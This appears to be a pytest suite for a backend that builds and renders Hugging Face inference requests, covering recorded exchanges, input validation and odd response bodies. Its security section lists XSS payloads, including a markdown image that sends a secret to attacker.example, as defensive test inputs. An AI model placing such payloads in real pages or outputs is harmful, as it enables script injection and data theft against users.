"""The task table against real recorded exchanges (tests/fake_hf/recorded), plus validation,
odd shapes, the XSS corpus (SECURITY.md T10) and the unknown-task fallback. Pure and fast."""
from __future__ import annotations

import base64
import hashlib
import json
import math
from pathlib import Path
from typing import Any

import pytest

from backend.errors import BadRequest, InvalidParameters
from backend.result import InferenceRequest, InferenceResult
from backend.tasks import TASKS, Payload, Rendered, build_payload, get_task, parse_extra_parameters, render

RECORDED = Path(__file__).resolve().parents[1] / "fake_hf" / "recorded"  # the repo's copy of shared/hf-recorded


def _load(name: str) -> dict[str, Any]:
    return json.loads((RECORDED / name).read_text(encoding="utf-8"))


def _recordings() -> list[str]:
    """Every successful recording of a task in the table."""
    if not RECORDED.is_dir():
        return []
    records = {path.name: _load(path.name) for path in RECORDED.glob("*.json")}
    return sorted(name for name, rec in records.items() if rec["task"] in TASKS and rec["response"]["status"] == 200)


RECORDINGS = _recordings()


# --- recorded request -> the form a person would fill in -------------------------------------------

def _upload_bytes(descriptor: dict[str, Any]) -> bytes:
    """The recorded bytes when kept (< 20 KB), else a stand-in of the recorded length."""
    if descriptor.get("base64"):
        return base64.b64decode(descriptor["base64"])
    magic = b"fLaC" if descriptor["detected_format"].startswith("audio/") else b"\xff\xd8\xff"
    return magic + b"\0" * (descriptor["byte_length"] - len(magic))


def _text_form(body: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any]]:
    params = dict(body.get("parameters", {}))
    if "stream" in body:
        params["stream"] = body["stream"]
    return {"text": body["inputs"]}, params


def _zero_shot_form(body: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any]]:
    params = dict(body["parameters"])
    inputs = {"text": body["inputs"], "labels": params.pop("candidate_labels")}
    if "multi_label" in params:
        inputs["multi_label"] = params.pop("multi_label")
    return inputs, params


def _translation_form(body: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any]]:
    params = dict(body["parameters"])
    inputs = {"text": body["inputs"], "src_lang": params.pop("src_lang", ""), "tgt_lang": params.pop("tgt_lang", "")}
    return inputs, params


def _root_form(key: str, form_key: str):
    def form(body: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any]]:
        params = {k: v for k, v in body.items() if k not in (key, "model")}
        return {form_key: body[key]}, params
    return form


def _upload_form(kind: str):
    def form(body: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any]]:
        return {kind: _upload_bytes(body), f"{kind}_type": body["detected_format"]}, {}
    return form


FORMS = {
    "text-classification": _text_form, "token-classification": _text_form, "fill-mask": _text_form,
    "summarization": _text_form, "text-generation": _text_form, "text-to-image": _text_form,
    "zero-shot-classification": _zero_shot_form, "translation": _translation_form,
    "question-answering": lambda body: (dict(body["inputs"]), dict(body.get("parameters", {}))),
    "sentence-similarity": lambda body: (dict(body["inputs"]), {}),
    "feature-extraction": _root_form("inputs", "text"),
    "chat-completion": _root_form("messages", "messages"),
    "image-classification": _upload_form("image"), "object-detection": _upload_form("image"),
    "automatic-speech-recognition": _upload_form("audio"),
}


def _normalized(body: dict[str, Any], task: str) -> dict[str, Any]:
    """The recorded body as huggingface_hub 2.4 sends it, minus what we deliberately do not send (NORMALIZED)."""
    body = {k: v for k, v in body.items() if k not in ("options", "model")}
    if body.get("stream") is False and "inputs" in body:
        del body["stream"]  # 2.4's text_generation states `stream` only when it streams
    if "parameters" not in body:
        # 2.4 always sends `parameters` with `inputs` (the conformance test checks it on the wire);
        # feature-extraction puts its parameters at the root instead.
        at_root = task in ("feature-extraction", "chat-completion")
        return {**body, "parameters": {}} if "inputs" in body and not at_root else body
    params = {k: v for k, v in body.pop("parameters").items() if v is not None and v != []}
    return {**body, "parameters": params}  # an empty `parameters` is sent as huggingface_hub sends it


# Recordings whose body differs from ours, and why. Every other recording matches byte for byte.
NORMALIZED = {
    "10_fill-mask.json": "recorded by an older client without the empty 'parameters': {} that 2.4 sends",
    "12_question-answering.json": "older client: no empty 'parameters': {}",
    "13_sentence-similarity.json": "older client: no empty 'parameters': {}",
    "07_summarization.json": "legacy 'options': {} (undocumented since 2025) not sent",
    "11_fill-mask_legacy_options.json": "legacy 'options': {wait_for_model, use_gpu} not sent",
    "20_chat-completion.json": "'model' is added by the router layer, not by tasks",
    "21_chat-completion_stream.json": "'model' added by the router layer",
    "22_chat-completion_stream_provider_together.json": "'model' added by the router layer",
    "23_chat-completion_provider_novita.json": "'model' added by the router layer",
    "24_text-generation_tgi_details.json": "'stop': [] is an empty value, dropped like None; 'stream': false "
                                           "is not stated (2.4 states it only when streaming)",
    "25_text-generation_tgi_stream.json": "'stop': [] dropped",
    "27_text-generation_transformers_gpt2.json": "the 2023 client sent nine null parameters; we drop None",
}


def test_recordings_are_present() -> None:
    assert len(RECORDINGS) == 26, f"expected the shared recordings at {RECORDED}"


@pytest.mark.parametrize("name", RECORDINGS)
def test_payload_rebuilt_from_the_form_equals_the_recorded_request(name: str) -> None:
    rec = _load(name)
    body, headers = rec["request"]["body"], rec["request"]["headers"]
    inputs, params = FORMS[rec["task"]](body)
    payload = build_payload(rec["task"], inputs, params)
    assert isinstance(payload, Payload)
    if body.get("binary"):
        assert payload.json_body is None
        assert payload.data == _upload_bytes(body)
        assert payload.headers == {"Content-Type": body["detected_format"]}
        return
    assert payload.data is None
    assert payload.json_body == _normalized(body, rec["task"])
    assert (payload.json_body != body) == (name in NORMALIZED)
    assert payload.stream is body.get("stream", False)
    if rec["task"] == "text-to-image":
        assert payload.headers["Accept"] == headers["Accept"] == "image/png"


# --- recorded response -> InferenceResult -> Rendered ----------------------------------------------

def _sse_events(text: str) -> tuple[Any, ...]:
    payloads = (block.strip()[len("data:"):].strip() for block in text.split("\n\n") if block.strip())
    return tuple(json.loads(data) for data in payloads if data != "[DONE]")


def _result(rec: dict[str, Any]) -> InferenceResult:
    response, request = rec["response"], rec["request"]
    headers = {k.lower(): v for k, v in response["headers"].items()}
    content_type, body, events = headers.get("content-type", ""), response["body"], ()
    if isinstance(body, dict) and body.get("binary"):
        raw = _upload_bytes(body)
    elif content_type.startswith("text/event-stream"):
        raw, events = body.encode(), _sse_events(body)
    else:
        raw = json.dumps(body).encode()
    req_body = None if isinstance(request["body"], dict) and request["body"].get("binary") else request["body"]
    req = InferenceRequest(request["method"], request["url"], json_body=req_body, task=rec["task"])
    return InferenceResult(request=req, status=response["status"], content_type=content_type, headers=headers,
                           body=raw, events=events)


def _render_recording(name: str) -> Rendered:
    rec = _load(name)
    return render(rec["task"], _result(rec))


LABEL_CASES = [  # (recording, top label, top score, number of labels)
    ("01_text-classification.json", "POSITIVE", 0.99987, 2),
    ("04_zero-shot-classification.json", "scientific discovery", 0.79617, 5),
    ("05_zero-shot-classification_multi_label.json", "scientific discovery", 0.98293, 5),
    ("06_zero-shot-classification_batched.json", "refund", 0.87779, 3),
    ("10_fill-mask.json", "the", 0.29109, 5),
    ("11_fill-mask_legacy_options.json", "this", 0.80006, 5),
    ("15_image-classification.json", "brassiere, bra, bandeau", 0.11767, 5),
]

TEXT_CASES = [  # (recording, the text, or its start when it ends with "...")
    ("07_summarization.json", "The tower is 324 metres (1,063 ft) tall, about the same height as an 81-storey "
                              "building. Its base is square, measuring 125 metres (410 ft) on each side. During its "
                              "construction, the Eiffel Tower surpassed the Washington Monument to become the "
                              "tallest man-made structure in the world."),
    ("08_translation.json", "Hallo Welt"),
    ("09_translation_src_tgt.json", "Hello world"),
    ("12_question-answering.json", "Paris"),
    ("17_automatic-speech-recognition.json", "a man said to the universe sir i exist"),
    ("20_chat-completion.json", "Deep learning is a subfield of artificial intelligence (AI) that focuses on..."),
    ("21_chat-completion_stream.json", "Deep learning is a subset of machine learning that involves the use of "
                                       "artificial neural networks (ANNs)"),
    ("22_chat-completion_stream_provider_together.json", "Deep learning is a subfield of machine learning that "
                                                         "involves the use of artificial neural networks to model and"),
    ("23_chat-completion_provider_novita.json", "Deep learning is a subset of machine learning that involves..."),
    # TGI's final decode of a single " " token is "" - the server's text wins over the streamed tokens.
    ("24_text-generation_tgi_details.json", ""),
    ("25_text-generation_tgi_stream.json", ""),
    ("26_text-generation_tgi_stream_llama.json", "Please answer the following question: complete one two and ____. "
                                                 "1. 2. 3. 4. 5. 6. 7. 8. 9. 10. 11. 12. 13. 14. 15. 16. 17"),
    ("27_text-generation_transformers_gpt2.json", " 3 4 5 6 7 8 9 10 11 12"),
]

SUMMARY_CASES = [  # (recording, expected subset of Rendered.summary)
    ("12_question-answering.json", {"start": 25, "end": 30}),
    ("17_automatic-speech-recognition.json", {"audio_seconds": "4.65"}),
    ("20_chat-completion.json", {"finish_reason": "stop", "model": "meta-llama/Llama-3.1-8B-Instruct",
                                 "usage": {"prompt_tokens": 46, "completion_tokens": 579, "total_tokens": 625}}),
    ("21_chat-completion_stream.json", {"finish_reason": "length", "chunks": 20}),
    ("22_chat-completion_stream_provider_together.json",
     {"finish_reason": "length", "usage": {"prompt_tokens": 26, "completion_tokens": 20, "total_tokens": 46}}),
    ("23_chat-completion_provider_novita.json", {"finish_reason": "stop"}),
    ("24_text-generation_tgi_details.json", {"finish_reason": "length", "generated_tokens": 1}),
    ("25_text-generation_tgi_stream.json", {"finish_reason": "length", "generated_tokens": 1, "streamed_tokens": 1}),
    ("26_text-generation_tgi_stream_llama.json", {"streamed_tokens": 50}),
    ("27_text-generation_transformers_gpt2.json", {}),
]

OTHER_CASES = ["03_token-classification.json", "13_sentence-similarity.json", "14_feature-extraction.json",
               "16_object-detection.json", "18_text-to-image.json", "19_text-to-image_small_legacy.json"]


def test_every_recording_has_a_rendering_check() -> None:
    checked = {case[0] for case in LABEL_CASES + TEXT_CASES} | set(OTHER_CASES)
    assert checked == set(RECORDINGS)


@pytest.mark.parametrize("name, top, score, count", LABEL_CASES)
def test_label_answers_are_sorted_with_the_top_label_first(name: str, top: str, score: float, count: int) -> None:
    rendered = _render_recording(name)
    assert rendered.kind == "labels"
    assert rendered.labels[0][0] == top and rendered.labels[0][1] == pytest.approx(score, abs=1e-5)
    assert len(rendered.labels) == count
    assert [s for _, s in rendered.labels] == sorted((s for _, s in rendered.labels), reverse=True)
    assert top in rendered.text.splitlines()[0]


@pytest.mark.parametrize("name, expected", TEXT_CASES)
def test_text_answers_show_exactly_what_the_model_said(name: str, expected: str) -> None:
    rendered = _render_recording(name)
    assert rendered.kind == "text"
    if expected.endswith("..."):
        assert rendered.text.startswith(expected[:-3]) and len(rendered.text) > 1000
    else:
        assert rendered.text == expected


@pytest.mark.parametrize("name, expected", SUMMARY_CASES)
def test_summaries_carry_the_metadata(name: str, expected: dict[str, Any]) -> None:
    summary = _render_recording(name).summary
    assert {key: summary.get(key) for key in expected} == expected


def test_streamed_tokens_of_recording_26_are_its_final_text_minus_the_prompt() -> None:
    name = "26_text-generation_tgi_stream_llama.json"
    rec = _load(name)
    streamed = "".join(event["token"]["text"] for event in _result(rec).events)
    assert _render_recording(name).text == rec["request"]["body"]["inputs"] + streamed


def test_entities_point_into_the_source_text() -> None:
    rendered = _render_recording("03_token-classification.json")
    assert rendered.kind == "entities"
    assert rendered.text == "My name is Sarah Jessica Parker but you can call me Jessica"
    assert [(e.start, e.end, e.label, e.word) for e in rendered.entities] == [
        (11, 31, "PER", "Sarah Jessica Parker"), (52, 59, "PER", "Jessica")]
    assert all(rendered.text[e.start:e.end] == e.word for e in rendered.entities)
    assert rendered.entities[0].score == pytest.approx(0.99913, abs=1e-5)


def test_sentence_similarity_names_each_score_by_its_sentence() -> None:
    rendered = _render_recording("13_sentence-similarity.json")
    assert rendered.kind == "table"
    headers, rows = rendered.table
    assert headers == ("sentence", "score")
    assert [name for name, _ in rows] == ["That is a happy dog", "That is a very happy person", "Today is a sunny day"]
    assert [score for _, score in rows] == pytest.approx([0.66235, 0.93823, 0.22963], abs=1e-5)


def test_embedding_summary_has_shape_norm_and_first_values() -> None:
    vector = _load("14_feature-extraction.json")["response"]["body"]
    rendered = _render_recording("14_feature-extraction.json")
    assert rendered.kind == "embedding"
    assert rendered.summary["shape"] == [768] and rendered.summary["dimensions"] == 768
    assert rendered.summary["norm"] == pytest.approx(math.hypot(*vector))
    assert rendered.summary["first_values"] == vector[:8]
    assert "768 dimensions" in rendered.text


def test_object_detection_gives_boxes_best_first() -> None:
    rendered = _render_recording("16_object-detection.json")
    assert rendered.kind == "boxes"
    assert [(b.label, b.xmin, b.ymin, b.xmax, b.ymax) for b in rendered.boxes] == [
        ("person", 59, 39, 420, 510), ("umbrella", 143, 4, 510, 387), ("person", 60, 162, 413, 510)]
    assert rendered.boxes[0].score == pytest.approx(0.94867, abs=1e-5)


@pytest.mark.parametrize("name", ["18_text-to-image.json", "19_text-to-image_small_legacy.json"])
def test_text_to_image_returns_the_image_bytes(name: str) -> None:
    descriptor = _load(name)["response"]["body"]
    rendered = _render_recording(name)
    assert (rendered.kind, rendered.media_type) == ("image", "image/jpeg")
    assert len(rendered.media) == descriptor["byte_length"]
    if descriptor["base64"]:
        assert hashlib.sha256(rendered.media).hexdigest() == descriptor["sha256"]


# --- shapes the recordings do not show -------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 16


def _ok(task: str, body: Any, *, request_body: Any = None, content_type: str = "application/json",
        events: tuple[Any, ...] = ()) -> Rendered:
    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    req = InferenceRequest("POST", "https://router.example/x", json_body=request_body, task=task)
    return render(task, InferenceResult(request=req, status=200, content_type=content_type, body=raw, events=events))


def test_flat_text_classification_list() -> None:
    rendered = _ok("text-classification", [{"label": "NEG", "score": 0.2}, {"label": "POS", "score": 0.8}])
    assert rendered.labels == (("POS", 0.8), ("NEG", 0.2))


def test_zero_shot_in_the_documented_list_shape() -> None:
    rendered = _ok("zero-shot-classification", [{"label": "b", "score": 0.3}, {"label": "a", "score": 0.7}])
    assert rendered.labels == (("a", 0.7), ("b", 0.3))


def test_zero_shot_batch_of_two_adds_a_table() -> None:
    body = [{"sequence": s, "labels": ["x", "y"], "scores": [0.9, 0.1]} for s in ("one", "two")]
    rendered = _ok("zero-shot-classification", body)
    assert rendered.labels[0] == ("x", 0.9)
    assert rendered.table[1] == (("one", "x", 0.9), ("one", "y", 0.1), ("two", "x", 0.9), ("two", "y", 0.1))


def test_question_answering_top_k_gives_a_table() -> None:
    body = [{"answer": "Paris", "score": 0.9, "start": 25, "end": 30}, {"answer": "France", "score": 0.05,
                                                                        "start": 15, "end": 21}]
    rendered = _ok("question-answering", body)
    assert (rendered.kind, rendered.text) == ("table", "Paris")
    assert rendered.table == (("answer", "score", "start", "end"), (("Paris", 0.9, 25, 30), ("France", 0.05, 15, 21)))


def test_unaggregated_entities_use_the_entity_key() -> None:
    rendered = _ok("token-classification", [{"entity": "B-PER", "score": 0.9, "word": "Ann", "start": 0, "end": 3}],
                   request_body={"inputs": "Ann runs"})
    assert rendered.entities[0].label == "B-PER" and rendered.text == "Ann runs"


def test_transcript_with_chunks() -> None:
    chunks = [{"text": "hello", "timestamp": [0.0, 0.5]}]
    rendered = _ok("automatic-speech-recognition", {"text": "hello", "chunks": chunks})
    assert (rendered.text, rendered.summary["chunks"]) == ("hello", chunks)


@pytest.mark.parametrize("body, shape, first", [
    ([[0.6, 0.8], [1.0, 0.0]], [2, 2], [0.6, 0.8]),                  # list input, sentence-transformers
    ([[[3.0, 4.0], [0.0, 1.0], [1.0, 1.0]]], [1, 3, 2], [3.0, 4.0]),  # per-token hidden states
])
def test_embeddings_of_higher_rank(body: Any, shape: list[int], first: list[float]) -> None:
    summary = _ok("feature-extraction", body).summary
    assert (summary["shape"], summary["first_values"]) == (shape, first)
    assert summary["norm"] == pytest.approx(math.hypot(*first))


def test_text_to_image_from_provider_base64() -> None:
    rendered = _ok("text-to-image", {"data": [{"b64_json": base64.b64encode(PNG).decode()}]})
    assert (rendered.kind, rendered.media, rendered.media_type) == ("image", PNG, "image/png")


def test_text_to_image_url_is_never_fetched() -> None:
    rendered = _ok("text-to-image", {"data": [{"url": "https://attacker.example/x.png"}]})
    assert rendered.kind == "json" and rendered.media is None and "never fetched" in rendered.text


def test_tgi_stream_without_a_final_text_joins_the_tokens_minus_special_ones() -> None:
    events = tuple({"token": {"text": text, "special": special}, "generated_text": None}
                   for text, special in (("Hello", False), (" world", False), ("</s>", True)))
    rendered = _ok("text-generation", b"", content_type="text/event-stream", events=events)
    assert (rendered.text, rendered.summary["streamed_tokens"]) == ("Hello world", 3)


def test_openai_completions_shape_for_text_generation() -> None:
    rendered = _ok("text-generation", {"choices": [{"text": " 3 4", "finish_reason": "length"}]})
    assert (rendered.text, rendered.summary["finish_reason"]) == (" 3 4", "length")


def test_chat_tool_calls_and_usage_only_last_chunk() -> None:
    calls = [{"id": "1", "type": "function", "function": {"name": "f", "arguments": "{}"}}]
    body = {"choices": [{"message": {"role": "assistant", "content": None, "tool_calls": calls},
                         "finish_reason": "tool_calls"}]}
    rendered = _ok("chat-completion", body)
    assert (rendered.text, rendered.summary["tool_calls"]) == ("", calls)
    events = ({"choices": [{"delta": {"content": "Hi"}, "finish_reason": "stop"}]},
              {"choices": [], "usage": {"total_tokens": 3}}, "[DONE]")
    streamed = _ok("chat-completion", b"", content_type="text/event-stream", events=events)
    assert (streamed.text, streamed.summary["usage"]) == ("Hi", {"total_tokens": 3})


# --- fallbacks: render never raises ----------------------------------------------------------------

ODD_BODIES = [b"", b"not json", b"<html><body>502</body></html>", b"{}", b"[]", b"[[]]", b"null", b"42",
              b'{"error": "boom"}', b'[{"label": 1}]', b'{"data": [{"b64_json": "@@@"}]}', b'["a", "b"]',
              b"[1e999]", b"[" * 100_000 + b"]" * 100_000, b"\xff\xfe\x00binary"]


@pytest.mark.parametrize("task", [*TASKS, "image-segmentation"])
@pytest.mark.parametrize("body", ODD_BODIES)
def test_render_never_raises_on_odd_bodies(task: str, body: bytes) -> None:
    assert isinstance(_ok(task, body), Rendered)


@pytest.mark.parametrize("task", TASKS)
def test_error_results_render_as_a_short_json_note(task: str) -> None:
    req = InferenceRequest("POST", "https://router.example/x", task=task)
    err = BadRequest(status=400, server_message="bad")
    result = InferenceResult(request=req, status=400, content_type="application/json",
                             body=b'{"error": "bad"}', error=err)
    rendered = render(task, result)
    assert (rendered.kind, rendered.text) == ("json", "No answer to show: the request failed (HTTP 400).")


def test_truncated_body_renders_a_note() -> None:
    req = InferenceRequest("POST", "https://router.example/x")
    result = InferenceResult(request=req, status=200, content_type="application/json", body=b"[[{", truncated=True)
    assert "cut off" in render("text-classification", result).text


def test_unknown_task_falls_back_to_generic_json() -> None:
    spec = get_task("depth-estimation")
    assert (spec.name, spec.route, spec.input_kind) == ("depth-estimation", "models", "text")
    payload = build_payload("depth-estimation", {"text": "hi"}, {"k": 1, "empty": ""})
    assert payload.json_body == {"inputs": "hi", "parameters": {"k": 1}}
    rendered = _ok("depth-estimation", [{"label": "wall", "score": 1.0}])
    assert rendered.kind == "json" and json.loads(rendered.text) == [{"label": "wall", "score": 1.0}]
    assert _ok("text-to-audio", b"fLaC\0\0", content_type="audio/flac").kind == "audio"
    assert get_task(None).name == "" and get_task(None).render is spec.render


@pytest.mark.parametrize("alias, name", [("conversational", "chat-completion"),
                                         ("text2text-generation", "text-generation")])
def test_hub_aliases_reach_their_task(alias: str, name: str) -> None:
    assert get_task(alias) is TASKS[name]


# --- validation: nothing is sent for invalid input -------------------------------------------------

INVALID_INPUTS = [  # (task, inputs, params, words the message must contain)
    ("question-answering", {"question": "Who?"}, {}, "context"),
    ("question-answering", {"question": " ", "context": "c"}, {}, "question"),
    ("zero-shot-classification", {"text": "t"}, {}, "candidate labels"),
    ("zero-shot-classification", {"text": "t", "labels": " , "}, {}, "candidate labels"),
    ("text-classification", {"text": "   "}, {}, "text"),
    ("text-classification", {"text": 42}, {}, "string"),
    ("sentence-similarity", {"source_sentence": "s", "sentences": "\n \n"}, {}, "one per line"),
    ("image-classification", {}, {}, "image"),
    ("automatic-speech-recognition", {"audio": "clip.wav"}, {}, "raw bytes"),
    ("chat-completion", {"messages": []}, {}, "message"),
    ("chat-completion", {"messages": [{"role": "wizard", "content": "hi"}]}, {}, "role"),
    ("text-classification", {"text": "t"}, {"top_k": 0}, "'top_k' must be at least 1 (got 0)"),
    ("text-classification", {"text": "t"}, {"top_k": "5"}, "'top_k' must be a number"),
    ("text-classification", {"text": "t"}, {"top_k": True}, "'top_k' must be a number"),
    ("text-classification", {"text": "t"}, {"top_k": 2.5}, "'top_k' must be a whole number"),
    ("text-classification", {"text": "t"}, {"function_to_apply": "max"}, "one of sigmoid, softmax, none"),
    ("text-generation", {"text": "t"}, {"temperature": 5}, "'temperature' must be at most 2"),
    ("text-generation", {"text": "t"}, {"temperature": 0}, "'temperature' must be at least 0.01"),
    ("text-generation", {"text": "t"}, {"temperature": float("nan")}, "'temperature' must be a number"),
    ("text-generation", {"text": "t"}, {"do_sample": "yes"}, "'do_sample' must be true or false"),
    ("text-generation", {"text": "t"}, {"stop": 5}, "'stop' must be a list of strings"),
    ("object-detection", {"image": PNG}, {"threshold": 1.5}, "'threshold' must be at most 1"),
    ("chat-completion", {"messages": [{"role": "user", "content": "hi"}]}, {"max_tokens": -1}, "'max_tokens'"),
]


@pytest.mark.parametrize("task, inputs, params, words", INVALID_INPUTS)
def test_invalid_input_is_refused_before_sending(task: str, inputs: dict, params: dict, words: str) -> None:
    with pytest.raises(InvalidParameters) as info:
        build_payload(task, inputs, params)
    assert words in info.value.message


def test_parameter_errors_name_the_parameter() -> None:
    with pytest.raises(InvalidParameters) as info:
        build_payload("fill-mask", {"text": "[MASK]"}, {"top_k": 0})
    assert info.value.details["parameter"] == "top_k"


@pytest.mark.parametrize("text, expected", [
    ("", {}), ("   \n", {}), ('{"top_k": 3}', {"top_k": 3}), ('{"a": {"b": [1]}}', {"a": {"b": [1]}}),
])
def test_extra_parameters_parse(text: str, expected: dict) -> None:
    assert parse_extra_parameters(text) == expected


@pytest.mark.parametrize("text, words", [
    ("{", "line 1, column 2"),
    ('{"a": 1,\n "b": }', "line 2, column 7"),
    ("{'a': 1}", "Expecting property name enclosed in double quotes"),
    ("[1, 2]", "must be a JSON object"),
    ('"x"', "not a string"),
    ("3", "not a number"),
    ('{"temperature": NaN}', "NaN is not a JSON number"),
])
def test_extra_parameters_errors_say_where(text: str, words: str) -> None:
    with pytest.raises(InvalidParameters) as info:
        parse_extra_parameters(text)
    assert words in info.value.message


@pytest.mark.parametrize("task, inputs, params, body", [
    ("text-generation", {"text": "t"}, {"max_new_tokens": 50.0, "top_p": None, "stop": "a\n\nb"},
     {"inputs": "t", "parameters": {"max_new_tokens": 50, "stop": ["a", "b"]}}),
    ("feature-extraction", {"text": ["a", "b"]}, {"normalize": True, "custom": 1},
     {"inputs": ["a", "b"], "normalize": True, "custom": 1}),
    ("translation", {"text": "hi", "src_lang": "", "tgt_lang": "fr_XX"}, {},
     {"inputs": "hi", "parameters": {"tgt_lang": "fr_XX"}}),
    ("text-to-image", {"text": "cat", "negative_prompt": "dog"}, {"width": 512},
     {"inputs": "cat", "parameters": {"negative_prompt": "dog", "width": 512}}),
    ("zero-shot-classification", {"text": "t", "labels": "a, b ,", "multi_label": True}, {},
     {"inputs": "t", "parameters": {"candidate_labels": ["a", "b"], "multi_label": True}}),
    ("chat-completion", {"messages": [{"role": "user", "content": "hi"}]},
     {"temperature": 0, "stream": True, "stop": ["\n\n"]},  # a stop list from code keeps its whitespace
     {"messages": [{"role": "user", "content": "hi"}], "temperature": 0, "stream": True, "stop": ["\n\n"]}),
    ("object-detection", {"image": PNG}, {"threshold": 0.5},
     {"inputs": base64.b64encode(PNG).decode(), "parameters": {"threshold": 0.5}}),
])
def test_payload_layout(task: str, inputs: dict, params: dict, body: Any) -> None:
    assert build_payload(task, inputs, params).json_body == body


def test_slider_floats_go_out_as_ints_and_blank_lists_are_dropped() -> None:
    body = build_payload("text-generation", {"text": "t"}, {"max_new_tokens": 50.0, "stop": "\n \n"}).json_body
    assert type(body["parameters"]["max_new_tokens"]) is int  # TGI rejects 50.0 for an integer field
    assert "stop" not in body["parameters"]


# --- the table itself ------------------------------------------------------------------------------

@pytest.mark.parametrize("name", TASKS)
def test_table_rows_are_complete_and_their_examples_build(name: str) -> None:
    spec = TASKS[name]
    assert spec.name == name and spec.label and spec.default_model and spec.expected_input
    assert spec.route in ("models", "pipeline", "chat")
    defaults = {p.name: p.default for p in spec.parameters if p.default is not None}
    if spec.input_kind in ("image", "audio") or spec.input_kind.startswith("image-"):
        return  # no bundled media; the UI offers its own sample file
    payload = spec.build_payload(spec.example, defaults)
    assert payload.json_body is not None


# In the tasks' order, once each (a set's order changes with each process's hash seed: pytest-xdist's
# workers must collect the same tests in the same order).
@pytest.mark.parametrize("param", list(dict.fromkeys(p for spec in TASKS.values() for p in spec.parameters)),
                         ids=lambda p: p.name)
def test_parameters_are_consistent(param: Any) -> None:
    assert param.kind in ("int", "float", "bool", "str", "choice", "list")
    assert (param.kind == "choice") == bool(param.choices) and param.help
    if param.minimum is not None and param.maximum is not None:
        assert param.minimum < param.maximum
        if param.default is not None:
            assert param.minimum <= param.default <= param.maximum


# --- T10: model output is data ---------------------------------------------------------------------

XSS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))",
       "![a](https://attacker.example/?q=SECRET)", "<style>*{display:none}</style>",
       '<iframe srcdoc="<script>alert(1)</script>">', '<a href="data:text/html,<script>alert(1)</script>">x</a>']
MARKUP = ("<", ">", "](", "![", "**", "`", "&lt;", "&gt;", "javascript:")


def _no_markup(text: str) -> bool:
    return not any(token in text for token in MARKUP)


@pytest.mark.parametrize("payload", XSS)
@pytest.mark.parametrize("task, body", [
    ("text-generation", lambda p: [{"generated_text": p}]),
    ("summarization", lambda p: [{"summary_text": p}]),
    ("question-answering", lambda p: {"answer": p, "score": 0.5, "start": 0, "end": 1}),
    ("chat-completion", lambda p: {"choices": [{"message": {"role": "assistant", "content": p}}]}),
    ("text-classification", lambda p: [[{"label": p, "score": 0.5}]]),
])
def test_model_output_passes_through_as_plain_text(payload: str, task: str, body: Any) -> None:
    rendered = _ok(task, body(payload))
    assert payload in rendered.text  # unchanged: escaping belongs to the UI layer
    assert _no_markup(rendered.text.replace(payload, ""))  # and we add no markup of our own


@pytest.mark.parametrize("name", RECORDINGS)
def test_renderings_of_recordings_add_no_markup(name: str) -> None:
    rendered = _render_recording(name)
    body = json.dumps(_load(name)["response"]["body"], ensure_ascii=False)
    assert all(rendered.text.count(token) <= body.count(token) for token in MARKUP)


@pytest.mark.parametrize("task, field, data", [
    ("image-classification", "image", b"%PDF-1.7 not a picture"),
    ("object-detection", "image", b"RIFF\x00\x00\x00\x00WAVEfmt "),
    ("automatic-speech-recognition", "audio", b"\x89PNG\r\n\x1a\n a picture named clip.wav"),
    ("automatic-speech-recognition", "audio", b"hello, plain text"),
])
def test_an_upload_must_be_what_its_field_is_for(task: str, field: str, data: bytes) -> None:
    with pytest.raises(InvalidParameters, match=f"not (an )?{'image' if field == 'image' else 'audio'}"):
        build_payload(task, {field: data, f"{field}_type": f"{field}/wav"})


def test_deeply_nested_extra_parameters_are_explained() -> None:
    with pytest.raises(InvalidParameters, match="nested too deeply"):
        parse_extra_parameters("[" * 100_000 + "]" * 100_000)
